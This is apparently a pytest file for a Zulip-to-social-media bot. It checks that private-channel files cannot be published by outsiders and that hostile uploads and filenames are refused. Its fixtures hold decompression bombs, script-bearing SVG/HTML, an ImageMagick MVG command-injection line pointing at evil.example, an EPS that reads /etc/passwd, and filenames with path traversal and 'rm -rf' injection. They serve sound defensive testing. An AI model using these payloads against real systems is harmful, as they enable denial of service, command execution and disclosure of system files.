"""Files: those of others, and those that are not what they say. The table is in tests/attacks/README.md."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from PIL import Image
from starlette.responses import Response
from town import Town, picture

from bot.sandbox.serve import serving

DRAFT = "@social draft\nto: mastodon\nHello\n"


def refused(town: Town, number: int = 1) -> bool:
    """The post has an error and nothing of the file is kept."""
    return town.post(number).state == "broken" and not kept(town)


def kept(town: Town) -> list[str]:
    folder = town.desk.store.root
    return sorted(one.name for one in folder.iterdir() if one.is_file()) if folder.exists() else []


# -- files of others --------------------------------------------------------------------------------------


def private_file(town: Town, *, bot: bool) -> str:
    """A picture in a private channel of Alice and Bob; the bot may be in it too (to announce there)."""
    zulip = town.sandbox.zulip
    members = [town.row(town.alice), town.row(town.bob)]
    if bot:
        row = zulip.core.organisation.by_email(town.bot_email)
        assert row is not None
        members.append(row)
    secret = zulip.add_channel("board", members, private=True)
    path = town.alice.uploads(picture(), "minutes.png")
    zulip.say(town.row(town.alice), secret, "x", f"[minutes.png]({path})")
    town.settle()
    return path


@pytest.mark.parametrize("bot", [False, True])
def test_a_file_of_a_private_channel_is_not_published_by_who_is_not_in_it(town: Town, bot: bool) -> None:
    path = private_file(town, bot=bot)
    town.carol.says(f"{DRAFT}[look]({path})")
    assert refused(town)
    town.carol.says(f"@social edit 1 Hello once more [look]({path})")
    assert refused(town)


def test_no_other_way_of_writing_its_address_opens_it(town: Town) -> None:
    path = private_file(town, bot=True)
    head, _, name = path.rpartition("/")
    coded = head[:-1] + f"%{ord(head[-1]):02X}"
    for number, way in enumerate(
        (
            f"{coded}/{name}",
            f"{path}?download=true",
            f"{town.base}{path}",
            f"{head}/./{name}",
            path.replace("/user_uploads/", "/user_uploads/thumbnail/") + "/840x560.webp",
        ),
        1,
    ):
        town.carol.says(f"{DRAFT}[look]({way})")
        assert kept(town) == [], way
        assert town.post(number).state in {"broken", "draft"}


def test_who_is_in_the_private_channel_may_publish_its_file(town: Town) -> None:
    path = private_file(town, bot=True)
    town.bob.says(f"{DRAFT}[look]({path})")
    assert town.post(1).state == "draft"
    assert len(kept(town)) == 1


def test_a_file_that_somebody_sent_to_the_bot_alone_is_theirs(town: Town) -> None:
    path = town.alice.uploads(picture(), "mine.png")
    town.alice.whispers(f"draft\nto: mastodon\nHello\n[mine]({path})")
    assert town.post(1).state == "draft"
    town.carol.says(f"{DRAFT}[look]({path})")
    assert town.post(2).state == "broken"


def test_copies_and_alt_texts_of_others_keep_the_files_of_a_draft(town: Town) -> None:
    path = town.alice.uploads(picture(), "mine.png")
    town.alice.whispers(f"draft\nto: mastodon\nHello\n[mine]({path})")
    town.carol.says("@social alt 1 1 A map")
    assert town.post(1).state == "draft"
    town.carol.says("@social copy 1")
    town.bob.says("@social alt 2 1 Another map")
    assert town.post(2).state == "draft"


def test_an_approver_cannot_lend_the_authors_eyes(town: Town) -> None:
    """Bob rewrites Alice's post with the address of a file that Alice may see and he may not."""
    path = town.alice.uploads(picture(), "mine.png")
    town.alice.whispers(f"here it is: [mine]({path})")
    town.alice.says(DRAFT)
    town.bob.says(f"@social edit 1 Hello [mine]({path})")
    assert refused(town)


def test_a_quoted_file_of_a_private_channel_is_refused_too(town: Town) -> None:
    path = private_file(town, bot=True)
    town.carol.says(
        f"@social draft\n@_**Alice|9** [said](http://x/#narrow/near/1):\n```quote\nHi [x]({path})\n```"
    )
    assert kept(town) == []


def test_another_server_is_asked_for_no_file_and_ours_for_none_of_its(town: Town) -> None:
    """Only the whole address of our own server means a file of it; the same path elsewhere is text, with a warning."""
    path = town.carol.uploads(picture(), "map.png")
    asked: list[str] = []

    def elsewhere(_base: str) -> Any:
        async def app(scope: Any, receive: Any, send: Any) -> None:
            if scope["type"] == "http":
                asked.append(scope["path"])
                await Response(picture())(scope, receive, send)

        return app

    with serving(elsewhere) as base:
        town.carol.says(f"{DRAFT}[a map]({base}{path}) and {base}{path}")
    assert (asked, kept(town), town.post(1).state) == ([], [], "draft")
    assert "A link into Zulip cannot be opened by readers outside." in town.card(1)
    town.carol.says(f"{DRAFT}[a map]({town.base}{path}), see {town.base}/#narrow/channel/3-x/topic/y")
    assert (len(kept(town)), town.post(2).state) == (1, "draft")
    assert "A link into Zulip cannot be opened by readers outside." in town.card(2)


def test_a_file_that_is_not_there_any_more_is_an_error_and_no_leak(town: Town) -> None:
    town.carol.says(f"{DRAFT}[x](/user_uploads/2/ab/AAAAAAAAAAAAAAAAAAAAAAAA/gone.png)")
    assert refused(town)
    assert "Upload it again" in town.card(1)


# -- liars, bombs and names -------------------------------------------------------------------------------


def png_bomb() -> bytes:
    """A PNG of 60 000 x 60 000 pixels in a few kilobytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1 << 20)))
        + chunk(b"IEND", b"")
    )


def gif_bomb() -> bytes:
    """A GIF whose frames are tiny and whose canvas is huge."""
    frame = b"\x21\xf9\x04\x00\x00\x00\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + bytes(6) + frame * 3000 + b"\x3b"


def zip_bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.png", bytes(50 << 20))
    return file.getvalue()


def text_bomb() -> bytes:
    """A PNG with a compressed text chunk of 100 MB."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG")
    body = b"Comment\0\0" + zlib.compress(bytes(100 << 20), 9)
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    data = out.getvalue()
    return data[:33] + chunk + data[33:]


HOSTILE: dict[str, Callable[[], bytes]] = {
    "png": png_bomb,
    "gif": gif_bomb,
    "zip": zip_bomb,
    "svg": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "html": lambda: b"<html><script>alert(1)</script></html>",
    "mvg": lambda: b"push graphic-context\nfill 'url(https://evil.example/|id)'\n",
    "eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n(/etc/passwd) run\n",
    "truncated": lambda: picture(400, 300, "JPEG")[:700],
    "pdf": lambda: (
        b"%PDF-1.7\n1 0 obj\n<</Length 999999999/Filter/FlateDecode>>stream\n" + zlib.compress(bytes(1 << 20))
    ),
    "mp4": lambda: (
        struct.pack(">I", 24) + b"ftypisom\0\0\2\0isommp42" + struct.pack(">IIQ", 1, 0x6D6F6F76, 1 << 62)
    ),
    "mp4-deep": lambda: (
        struct.pack(">I", 24)
        + b"ftypisom\0\0\2\0isommp42"
        + b"".join(struct.pack(">I", 80_000 - 8 * at) + b"moov" for at in range(9_999))
    ),
    "heic": lambda: struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic" + bytes(200),
    "webp": lambda: (
        b"RIFF"
        + struct.pack("<I", 100)
        + b"WEBPVP8L"
        + struct.pack("<I", 80)
        + b"\x2f\xff\xff\xff\xff"
        + bytes(80)
    ),
    "empty": lambda: b"",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_files_are_refused_in_a_sentence(town: Town, kind: str) -> None:
    path = town.carol.uploads(HOSTILE[kind](), "photo.png")
    town.carol.says(f"{DRAFT}[a photo]({path})")
    town.alice.says("@social approve 1")
    assert town.published() == []
    assert town.post(1).state == "broken"
    assert kind == "pdf" or kept(town) == []  # a document is told by its first bytes, and never unpacked
    assert "my side" not in "".join(town.said())


def test_a_picture_with_a_bomb_in_its_comment_is_taken_without_it(town: Town) -> None:
    path = town.carol.uploads(text_bomb(), "photo.png")
    town.carol.says(f"{DRAFT}[a photo]({path})")
    assert [one.stat().st_size < 2000 for one in town.desk.store.root.iterdir() if one.is_file()] in (
        [True],
        [],
    )


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.png",
        "a\u202egnp.exe.png",
        "x`*@all*`.png",
        "-rf.png",
        "a" * 200 + ".png",
        "…\u200b.png",
        "con.png",
        ".png",
        "a;rm -rf $HOME.png",
    ],
)
def test_names_of_files_are_only_names(town: Town, name: str) -> None:
    path = town.carol.uploads(picture(), name)
    town.carol.says(f"{DRAFT}[{name.replace('[', '').replace(']', '')}]({quote(path, safe='/')})")
    assert all(len(one) == 64 for one in kept(town))
    card = town.card(1)
    assert "@all" not in card
    assert "\u202e" not in card
    assert not list(town.folder.parent.rglob("passwd*"))


@pytest.mark.parametrize("fault", ["500", "429", "reset-before", "reset-after"])
def test_a_file_that_never_comes_does_not_deafen_the_bot(town: Town, fault: str) -> None:
    path = town.carol.uploads(picture(), "x.png")
    town.fault("zulip", fault, times=1000, method="GET", path=path)
    town.fault("zulip", fault, times=1000, method="GET", path=f"/api/v1{path}")
    town.carol.says(f"{DRAFT}[x]({path})")
    assert refused(town)
    town.bob.says("@social help")
    assert "draft" in town.said()[-1]
    town.carol.says(DRAFT)
    assert town.post(2).state == "draft"


def test_a_file_that_comes_at_the_second_time_is_taken(town: Town) -> None:
    path = town.carol.uploads(picture(), "x.png")
    town.fault("zulip", "500", times=1, method="GET", path=path)
    town.carol.says(f"{DRAFT}[x]({path})")
    assert town.post(1).state == "draft"
